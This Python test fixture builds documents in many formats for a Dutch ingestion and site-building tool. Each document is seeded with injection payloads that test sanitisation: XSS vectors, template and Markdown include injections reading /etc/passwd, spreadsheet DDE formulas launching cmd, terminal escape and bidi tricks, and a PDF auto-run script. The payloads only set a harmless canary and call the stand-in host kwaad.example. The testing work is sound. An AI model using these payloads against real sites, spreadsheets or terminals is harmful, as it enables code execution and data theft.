"""Documents of every kind that are full of attacks, and the home and site that come of them."""

from __future__ import annotations

import functools
import html
import pickle
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import cast

import yaml
from click.testing import CliRunner, Result

import thuishaven
from knowledge.catalogue import catalogue, cited
from tests.ingest.builders import column, docx, paragraph, pdf
from tests.ingest.damage import packed
from tests.once import common, once

__all__ = [
    "ATTACKS",
    "CANARY",
    "CODES",
    "DATED",
    "ELEMENTS",
    "FORMULAS",
    "NAMES",
    "REFUSED_NAMES",
    "SCHEME",
    "Attacked",
    "Told",
    "attacked",
    "command",
]

CANARY = "aanval"
"""The global that an attack sets when it runs."""
SCHEME = "serv-direct-support"
_RUN = f"window.{CANARY}=1"
_AWAY = "https://kwaad.example"

ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_AWAY}/x.js></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src={_AWAY}/x.png onload="{_RUN}">',
    f"<svg onload={_RUN}><script>{_RUN}</script><use href='data:image/svg+xml,x#a'/></svg>",
    f'<a href="javascript:{_RUN}">klik een</a>',
    f'<a href="JaVaScRiPt:{_RUN}">klik twee</a>',
    f'<a href="java\tscript:{_RUN}">klik drie</a>',
    f'<a href="&#106;&#x61;vascript&colon;{_RUN}">klik vier</a>',
    f'<a href=" \x01javascript:{_RUN}">klik vijf</a>',
    f'<a href="data:text/html,<script>opener.{CANARY}=1</script>">klik zes</a>',
    f'<a href="vbscript:{_RUN}">klik zeven</a>',
    f'<a href="{_AWAY}/pad" ping="{_AWAY}/ping">klik acht</a>',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}/weg">',
    f'<iframe src="{_AWAY}/kader"></iframe><iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    f'<div style="width:expression({_RUN});background:url({_AWAY}/a.png)">stijl</div>',
    f"<style>@import url({_AWAY}/x.css); body{{display:none}}</style>",
    f"</textarea><script>{_RUN}</script>",
    f"</title></style></script></noscript><script>{_RUN}</script>",
    "</p></div></section></article></main><h1 id=gekaapt>uitgebroken</h1>",
    f'<base href="{_AWAY}/"><form action="{_AWAY}/"><button formaction="javascript:{_RUN}">knop</button></form>',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object><embed src="{_AWAY}/x.swf">',
    f"<details open ontoggle={_RUN}><summary>meer</summary></details><video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<!--[if IE]><script>{_RUN}</script><![endif]--> <!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]> <?php echo 1 ?> <%= 7*7 %>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onclick='{_RUN}' x='",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62;",
    f"\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 <x:script>{_RUN}</x:script>",
)
TEMPLATES = (
    "{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    '{% include "/etc/passwd" %} {% raw %} {# weg #}',
    "${7*7} #{7*7} @(7*7) [[${7*7}]]",
    "__config en __search en __md_scope",
)
MARKDOWN = (
    "!!! danger Geen kader",
    '??? note "Open mij"',
    '--8<-- "mkdocs.yml"',
    '--8<-- "/etc/passwd"',
    f"{{: onclick={_RUN} #gekaapt .weg }}",
    f"Kop {{#gekaapt onclick={_RUN} style=display:none}}",
    f"[klik hier](javascript:{_RUN}) [of hier](<javascript:{_RUN}>) [daar](JAVA\tSCRIPT:{_RUN})",
    f"![plaat]({_AWAY}/x.png) ![plaat](x.png 'x\" onerror=\"{_RUN}')",
    f"[verwijzing]: javascript:{_RUN} 'titel'",
    "[verwijzing] [verwijzing][] [klik][verwijzing] [^9]",
    "*[HTML]: afkorting",
    "[^9]: een noot die geen noot is",
    f"<{_AWAY}/pad> {_AWAY}/kaal www.kwaad.example mailto:x@kwaad.example <x@kwaad.example>",
    "```html",
    "~~~ { .python onclick=x }",
    "$$\\href{javascript:1}{x}$$ :smile: ==geel== ^^onder^^ ~~door~~ ++ctrl++",
    "| een | twee | <b>drie</b> |",
    "    vier spaties vooraf",
    "# geen kop ## geen kop",
    '=== "Tabblad"',
)
"""What makes something else than text of a line of Markdown, or of an extension of it."""
FORMULAS = (
    f'=HYPERLINK("{_AWAY}","klik")',
    "=cmd|'/C calc'!A0",
    "+SUM(1;2)",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    '=WEBSERVICE("https://kwaad.example")',
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
)
CODES = (
    "\x1b[31mrood\x1b[0m \x1b[2J\x1b[1;1H",
    f"\x1b]8;;{_AWAY}\x07klik\x1b]8;;\x07 \x1b]8;;{_AWAY}\x1b\\klik\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBrd2FhZA==\x07 \x1b]0;titel\x07 \x1bP+q\x1b\\ \x1b_x\x1b\\",
    "\x9b31mc1\x9b0m \x9d52;c;eA==\x9c \x90x\x9c \x85 \x08\x08\x08weg\x7f",
    "regel\r\x1b[Kvals",
)
"""What steers a terminal."""
TRICKS = (
    "\u202etpircs\u202c \u2066omgekeerd\u2069 \u200fdraai\u200e",
    "java\u200bscript:\u2060zonder\ufeff breedte\u00ad",
    "\U000e0041\U000e0042 verborgen \U000e007f",
    "rege\u2028l en \u2029 alinea",
)
ATTACKS = (*ELEMENTS, *TEMPLATES, *MARKDOWN, *FORMULAS, *CODES, *TRICKS)
DATED = "De loonkosten stegen snel en de kwaliteit viel tegen, zo telde de dienst in"
"""How sentences of these documents begin: with concepts, so that the pages mark them."""

NAMES = (
    f"<img src=x onerror={_RUN}>.txt",
    f'" onmouseover="{_RUN}.md',
    "{{ 7*7 }}{% raw %}.html",
    f"[klik](javascript:{_RUN.replace('window', 'self')}).docx",
    "=cmd|' C calc'!A0.odt",
    "{: #gekaapt }--8<--.pdf",
    "!!! danger &lt;b&gt;.eml",
)
"""A name for a file of every kind."""
REFUSED_NAMES = ("rood\x1b[31m.txt", "klik\x1b]8;;x\x07.md", "om\u202efdp.txt", "c1\x9b2J.html", "regel\nnieuw.txt")


@dataclass
class Attacked:
    """What came of the documents: the outcomes by file name, the ids of the documents, and where all stands."""

    home: Path
    docs: Path
    site: Path
    pages: Path
    ids: dict[str, str] = field(default_factory=dict)
    talk: list[Told] = field(default_factory=list)


@dataclass(frozen=True)
class Told:
    """What a command said, as it can be handed to another process."""

    exit_code: int
    stdout: str
    stderr: str
    output: str

    @classmethod
    def of(cls, result: Result) -> Told:
        """What of a result is kept."""
        return cls(result.exit_code, result.stdout, result.stderr, result.output)


def command(home: Path, *words: str) -> Result:
    """A command on a home, as on a terminal: click does not take codes out of what it prints."""
    return CliRunner().invoke(thuishaven.main, ["--home", str(home), *words], color=True)


@functools.cache
def attacked() -> Attacked:
    """The documents ingested with the command line, and the site built of them; made once a run."""
    made = common() / "attacked"
    return cast(Attacked, pickle.loads(once(made, lambda: made.write_bytes(_attacked())).read_bytes()))


def _attacked() -> bytes:
    base = common() / "attack"
    base.mkdir()
    made = Attacked(base / "home", base / "docs", base / "_site", base / "_pages")
    write_documents(made.docs)
    made.talk.append(Told.of(command(made.home, "ingest", str(made.docs))))
    listed = command(made.home, "documents")
    made.talk.append(Told.of(listed))
    made.ids = {line.split()[0]: line for line in listed.stdout.splitlines()}
    built = command(made.home, "build", "--site", str(made.site), "--pages", str(made.pages))
    assert built.exit_code == 0, (built.output, built.exception)
    made.talk.append(Told.of(built))
    return pickle.dumps(made)


def write_documents(folder: Path) -> None:
    """A document of every kind, each with a sidecar that has it shown whole; and files whose names are refused."""
    folder.mkdir()
    made = (_text(), _markdown(), _html(), _docx(), _odt(), _pdf(), _eml())
    for name, data in zip(NAMES, made, strict=True):
        (folder / name).write_bytes(data)
        (folder / f"{name}.yml").write_text("publish: full\n", encoding="utf-8")
    (folder / "minuten.txt").write_bytes(_minutes())
    (folder / "minuten.yml").write_text("publish: full\n", encoding="utf-8")
    (folder / "gezegd.txt").write_text(_sentences(ELEMENTS[:3]), encoding="utf-8")
    (folder / "gezegd.yml").write_text(_told_by_a_person(), encoding="utf-8")
    (folder / "bron.docx").write_bytes(_cited())
    (folder / "bron.yml").write_text(f"publish: full\nsource: {_source()}\n", encoding="utf-8")
    for name in REFUSED_NAMES:
        (folder / name).write_text("Een tekst die niemand leest.\n", encoding="utf-8")


def _sentence(number: int, attack: str) -> str:
    return f"{DATED} {2000 + number}. {attack} is wat erin staat."


def _sentences(attacks: tuple[str, ...]) -> str:
    """Each attack alone on a line, and within a sentence."""
    return "\n\n".join(part for n, attack in enumerate(attacks) for part in (attack, _sentence(n, attack)))


def _text() -> bytes:
    text = f"{ELEMENTS[0]}\n\nNota {ELEMENTS[2]}\n\n1. Deel {ELEMENTS[5]}\n\n{_sentences(ATTACKS)}\n\n"
    text += f"Figuur 1: {ELEMENTS[2]}\n\nTekst met een noot.1\n\n1 Noot {ELEMENTS[0]}\n"
    return text.encode()


def _markdown() -> bytes:
    front = f"---\ntitle: {ELEMENTS[0]}\ntemplate: kwaad.html\nhide: [toc]\n---\n\n"
    rows = "".join(f"| {attack.replace('|', '/')} | x |\n" for attack in ATTACKS)
    table = f"| een | twee |\n|---|---|\n{rows}"
    body = f"# Nota {ELEMENTS[2]}\n\n## Deel {MARKDOWN[5]}\n\n{_sentences(ATTACKS)}\n\n{table}\n"
    return f"{front}{body}\nMet een noot.<sup>1</sup>\n\n<sup>1</sup> Noot {ELEMENTS[0]}\n".encode()


def _html() -> bytes:
    """Each attack as it is, so that a browser would run it, and written so that it is text."""
    raw = "".join(f"<p>{_sentence(n, a)}</p>" for n, a in enumerate(ATTACKS) if "<base" not in a)
    text = "".join(f"<p>{html.escape(_sentence(n, a))}</p>" for n, a in enumerate(ATTACKS))
    rows = "".join(f"<tr><td>{html.escape(a)}</td><td>x</td></tr>" for a in ATTACKS)
    page = f"<!doctype html><html><head><title>{html.escape(ELEMENTS[0])}</title></head><body><h1>Nota</h1>"
    page += f"<h2>{html.escape(ELEMENTS[2])}</h2>{text}<table><caption>{html.escape(ELEMENTS[0])}</caption>{rows}"
    return f"{page}</table><h2>Zoals het is</h2>{raw}</body></html>".encode()


def _xml(text: str) -> str:
    """Text as it stands in XML, without the characters that XML cannot hold."""
    return html.escape(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text))


def _docx() -> bytes:
    body = paragraph(_xml(f"Nota {ELEMENTS[0]}"), style="Kop1")
    for number, attack in enumerate(ATTACKS):
        note = f'<w:r><w:footnoteReference w:id="{number + 1}"/></w:r>'
        body += paragraph(_xml(attack), style="Kop2" if number % 9 == 0 else "")
        body += paragraph(_xml(_sentence(number, attack)), inner=note)
    cells = "".join(f"<w:tr>{_cell(attack)}{_cell('x')}</w:tr>" for attack in ATTACKS)
    link = '<w:hyperlink w:anchor="x"><w:r><w:t>klik</w:t></w:r></w:hyperlink>'
    link += '<w:fldSimple w:instr="DDE x"><w:r><w:t>veld</w:t></w:r></w:fldSimple>'
    body += f"<w:tbl>{cells}</w:tbl>{paragraph(_xml(f'Figuur 1: {ELEMENTS[2]}'), inner=link)}"
    core = '<c:coreProperties xmlns:c="x" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    core += f"<dc:title>{_xml(ELEMENTS[0])}</dc:title></c:coreProperties>"
    return docx(body, footnotes=[_xml(attack) for attack in ATTACKS], parts={"docProps/core.xml": core.encode()})


def _cell(text: str) -> str:
    return f"<w:tc>{paragraph(_xml(text))}</w:tc>"


def _odt() -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"' for short in ("office", "text", "table")
    )
    body = f'<text:h text:outline-level="1">{_xml(ELEMENTS[2])}</text:h>'
    for number, attack in enumerate(ATTACKS):
        note = f"<text:note><text:note-body><text:p>{_xml(attack)}</text:p></text:note-body></text:note>"
        body += f"<text:p>{_xml(attack)}</text:p><text:p>{_xml(_sentence(number, attack))}{note}</text:p>"
    row = "<table:table-row>{}</table:table-row>"
    cell = "<table:table-cell><text:p>{}</text:p></table:table-cell>"
    body += f"<table:table>{''.join(row.format(cell.format(_xml(a)) * 2) for a in ATTACKS)}</table:table>"
    head = f"<office:document-content {spaces}><office:body><office:text>"
    meta = f'<office:document-meta {spaces} xmlns:dc="http://purl.org/dc/elements/1.1/"><office:meta>'
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": f"{head}{body}</office:text></office:body></office:document-content>".encode(),
            "meta.xml": f"{meta}<dc:title>{_xml(ELEMENTS[0])}</dc:title></office:meta></office:document-meta>".encode(),
        }
    )


def _pdf() -> bytes:
    """A PDF that also asks a viewer to run a script; what was put in makes its table of places wrong."""
    lines = [line.encode("cp1252", "ignore").decode("cp1252") for line in _sentences(ATTACKS).split("\n\n")]
    pages = [column(40, 800, lines[n : n + 40], size=7, leading=18) for n in range(0, len(lines), 40)]
    title = ELEMENTS[0].replace("(", "\\(").replace(")", "\\)")
    script = f"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /URI /URI ({_AWAY}) >> >>"
    return pdf(pages, title=title).replace(b"/Type /Catalog", b"/Type /Catalog " + script.encode())


def _eml() -> bytes:
    mail = f'From: "{ELEMENTS[0]}" <a@kwaad.example>\nTo: =?utf-8?q?=1B[31m=3Cscript=3E?= <b@kwaad.example>\n'
    mail += f"Subject: {ELEMENTS[2]}\nDate: Mon, 3 Mar 2025 10:00:00 +0100\nMIME-Version: 1.0\n"
    mail += 'Content-Type: multipart/mixed; boundary="grens"\n\n--grens\nContent-Type: text/plain; charset=utf-8\n\n'
    out = mail.encode() + _sentences(ATTACKS).encode()
    parts = (("<script>x<script>.html", "text/html", _html()), ("../../=cmd.md", "text/markdown", _markdown()))
    for name, kind, data in parts:
        head = f'\n--grens\nContent-Type: {kind}; charset=utf-8\nContent-Disposition: attachment; filename="{name}"\n\n'
        out += head.encode() + data
    return out + b"\n--grens--\n"


def _minutes() -> bytes:
    """Minutes whose speakers bring attacks with them."""
    said = [
        f"{who} ({party}): {_sentence(n, attack)}"
        for n, attack in enumerate(ATTACKS)
        for who, party in [(("De heer Jan Jansen", "<b>groen</b>"), ("Mevrouw An De Smet", "{{ 7*7 }}"))[n % 2]]
    ]
    return ("Verslag van de vergadering\n\n" + "\n\n".join(said)).encode()


def _told_by_a_person() -> str:
    """A sidecar of which every field is an attack."""
    told = {
        "title": ELEMENTS[18],
        "publisher": ELEMENTS[3],
        "identifiers": {MARKDOWN[6]: ELEMENTS[5], ELEMENTS[2]: FORMULAS[0]},
        "people": [{"name": ELEMENTS[27], "role": ELEMENTS[0]}],
        "licence": ELEMENTS[13],
        "publish": "full",
    }
    return yaml.safe_dump(told, allow_unicode=True)


def _source() -> str:
    """The source that the scheme cites most."""
    found = [citation.source for citation in cited(catalogue().scheme(SCHEME))]
    return max(sorted(set(found)), key=found.count)


def _cited() -> bytes:
    """A document that says to be that source: the words that the scheme cites stand in it, each before an attack."""
    anchors = [c.anchor for c in cited(catalogue().scheme(SCHEME)) if c.source == _source() and c.anchor]
    body = paragraph(_xml(f"Advies {ELEMENTS[0]}"), style="Kop1")
    for number, attack in enumerate(ATTACKS):
        anchor = anchors[number % len(anchors)]
        body += paragraph(_xml(f"{number} deel {attack}"[:80]), style="Kop2")
        body += paragraph(_xml(f"{attack} {anchor} {attack}"))
    return docx(body)
